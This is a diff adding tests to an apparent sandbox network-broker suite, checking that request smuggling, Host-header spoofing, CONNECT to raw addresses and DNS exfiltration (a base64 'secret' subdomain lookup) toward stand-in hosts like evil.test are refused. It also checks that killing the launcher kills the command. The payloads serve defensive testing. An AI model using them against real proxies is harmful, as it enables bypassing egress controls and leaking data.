@@ -8,6 +8,10 @@
 // "no route" checks connect UDP sockets, which send nothing, and a TCP
 // connect to TEST-NET-1 (192.0.2.1) only inside the namespace, where there
 // is no route for its SYN to take; their controls outside use UDP only.
+#include <signal.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
 #include <atomic>
 #include <mutex>
 #include <thread>
@@ -77,6 +81,8 @@ class HttpServer {
 //   tunnel HOST:PORT  CONNECT to the broker, then a GET through the tunnel
 //   tcp HOST:PORT     a direct TCP connect, past the proxy variables
 //   udp HOST:PORT     a UDP connect (sends nothing): is there a route?
+//   raw HOST:PORT|B   the bytes B (\r\n written as such) to the broker as they are
+//   resolve NAME:0    the command's own name lookup
 constexpr const char* kClient = R"PY(
 import os, socket, sys, urllib.request, urllib.error
 for name in ("no_proxy", "NO_PROXY"):
@@ -85,7 +91,14 @@ def attempt(kind, target):
     try:
         if kind == "get":
             return "200 " + urllib.request.urlopen(target, timeout=10).read().decode()
-        host, port = target.rsplit(":", 1)
+        host, port = target.split("|", 1)[0].rsplit(":", 1)
+        if kind == "raw":  # raw HOST:PORT|BYTES: BYTES sent to the broker as they are, its answer's first line
+            target, data = target.split("|", 1)
+            s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+            s.sendall(data.replace("\\r\\n", "\r\n").encode())
+            return "raw " + s.recv(4096).split(b"\r\n")[0].decode()
+        if kind == "resolve":
+            return "resolved " + socket.getaddrinfo(target.rsplit(":", 1)[0], None)[0][4][0]
         if kind == "tunnel":
             s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
             s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (target, target)).encode())
@@ -211,4 +224,103 @@ TEST_CASE("egress: the command's proxy variables point at the broker, whatever t
   for (const char* name : {"HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"})
     CHECK(contains(r.out, std::string("\n") + name + "=http://127.0.0.1:3128\n"));
   CHECK(!contains(r.out, "attacker.test"));
+}
+
+TEST_CASE("attack egress: CONNECT to an address, a second request to another host, a Host header that names another") {
+  HttpServer server;
+  const std::string port = std::to_string(server.port());
+  TempDir dir;
+  const std::string plan = compile_spec(dir, "hosts", spec("[\"localhost:" + port + "\"]"));
+  const std::string connect_address = "tunnel 127.0.0.1:" + port;
+  // Two requests on one connection, the second to a host the plan does not
+  // list: the broker checked the first and connects only there, so the
+  // second goes to the same origin, never to evil.test.
+  const std::string smuggle = "raw localhost:" + port + "|GET http://localhost:" + port +
+                              "/first HTTP/1.1\\r\\nHost: localhost:" + port +
+                              "\\r\\n\\r\\nGET http://evil.test/second HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
+  // A Host header naming another host than the URL: replaced by the URL's.
+  const std::string host_header = "raw localhost:" + port + "|GET http://localhost:" + port +
+                                  "/host HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
+  const std::string https_plain = "raw localhost:" + port + "|GET https://localhost:" + port + "/ HTTP/1.1\\r\\n\\r\\n";
+  const Run r = client(plan, dir, {connect_address, smuggle, host_header, https_plain});
+  INFO("stderr: ", r.err);
+  CHECK(r.exit_code == 0);
+  CHECK(r.out == line(connect_address, "HTTP/1.1 403 Forbidden") + line(smuggle, "raw HTTP/1.0 200 OK") +
+                     line(host_header, "raw HTTP/1.0 200 OK") + line(https_plain, "raw HTTP/1.1 400 Bad Request"));
+  const std::vector<std::string> heads = server.heads();
+  REQUIRE(heads.size() == 2);
+  // What the origin got: the first request in origin form, and whatever
+  // followed it on the connection, which is still this origin's.
+  CHECK(heads[0].rfind("GET /first HTTP/1.1\r\n", 0) == 0);
+  CHECK(heads[1].rfind("GET /host HTTP/1.1\r\n", 0) == 0);
+  CHECK(contains(heads[1], "\r\nHost: localhost:" + port + "\r\n"));
+  CHECK(!contains(heads[1], "evil.test"));
+  CHECK(!contains(r.err, "evil.test"));  // never a request of its own: not even refused
+  CHECK(contains(r.err, "broker refused 127.0.0.1:" + port));
+}
+
+TEST_CASE("attack egress: name lookups from inside reach no resolver; the names the broker refuses are never looked up") {
+  TempDir dir;
+  const std::string plan = compile_spec(dir, "hosts", spec("[\"localhost\"]"));
+  // The command's resolver is whatever /etc/resolv.conf names, on an
+  // address with no route, or the host's loopback, which is not its own.
+  const std::string exfil = "resolve c2VjcmV0.exfil.invalid:0";
+  const std::string local = "resolve localhost:0";  // the control: /etc/hosts still answers
+  const std::string refused = "tunnel c2VjcmV0.exfil.invalid:443";
+  const Run r = client(plan, dir, {exfil, local, refused});
+  INFO("stderr: ", r.err);
+  CHECK(r.exit_code == 0);
+  CHECK(contains(r.out, line(local, "resolved 127.0.0.1")));
+  CHECK(!contains(r.out, exfil + " -> resolved"));
+  CHECK(contains(r.out, line(refused, "HTTP/1.1 403 Forbidden")));
+  // Refused before any lookup: the reason is the list, not the resolver.
+  CHECK(contains(r.err, "c2vjcmv0.exfil.invalid:443 is not in network.outbound.hosts"));  // names are matched lowercase
+}
+
+TEST_CASE("attack egress: the launcher killed mid-run takes the command with it; it never gets the host's network") {
+  HttpServer server;
+  const std::string port = std::to_string(server.port());
+  TempDir dir;
+  const std::string plan = compile_spec(dir, "hosts", spec("[\"localhost:" + port + "\"]"));
+  const std::string pid_file = dir / "command.pid", log = dir / "log";
+  write_file(dir / "loop.py",
+             "import os, socket, time, urllib.request\n"
+             "for k in ('no_proxy', 'NO_PROXY'): os.environ.pop(k, None)\n"
+             "open('" + pid_file + "', 'w').write(str(os.getpid()))\n"
+             "while True:\n"
+             "    try: r = 'broker ' + urllib.request.urlopen('http://localhost:" + port + "/tick', timeout=2).read().decode()\n"
+             "    except Exception as e: r = 'broker failed'\n"
+             "    try: socket.create_connection(('127.0.0.1', " + port + "), timeout=1); r += ' direct connected'\n"
+             "    except OSError: r += ' direct refused'\n"
+             "    open('" + log + "', 'a').write(r + '\\n')\n"
+             "    time.sleep(0.05)\n");
+  const pid_t launcher = ::fork();
+  REQUIRE(launcher >= 0);
+  if (launcher == 0) {
+    ::chdir(dir.path().c_str());
+    const std::string launch = binary("AASM_LAUNCH");
+    ::execl(launch.c_str(), launch.c_str(), plan.c_str(), "--", "/usr/bin/python3", (dir / "loop.py").c_str(), nullptr);
+    ::_exit(127);
+  }
+  ReapOnExit reap(launcher);
+  pid_t command = 0;
+  for (int i = 0; i < 100 && !command; ++i) {
+    sleep_ms(50);
+    if (exists(pid_file) && !read_file(pid_file).empty()) command = std::stoi(read_file(pid_file));
+  }
+  REQUIRE(command > 0);
+  for (int i = 0; i < 100 && (!exists(log) || !contains(read_file(log), "broker hello")); ++i) sleep_ms(50);
+  REQUIRE(contains(read_file(log), "broker hello /tick direct refused"));  // the control: the broker serves
+  REQUIRE(::kill(launcher, SIGKILL) == 0);
+  int status = 0;
+  REQUIRE(::waitpid(launcher, &status, 0) == launcher);
+  reap.release();
+  bool gone = false;
+  for (int i = 0; i < 40 && !gone; ++i) {
+    gone = ::kill(command, 0) != 0;
+    if (!gone) sleep_ms(50);
+  }
+  CHECK_MESSAGE(gone, "the command outlived its killed launcher by 2 s");
+  if (!gone) ::kill(command, SIGKILL);
+  CHECK(!contains(read_file(log), "direct connected"));
 }
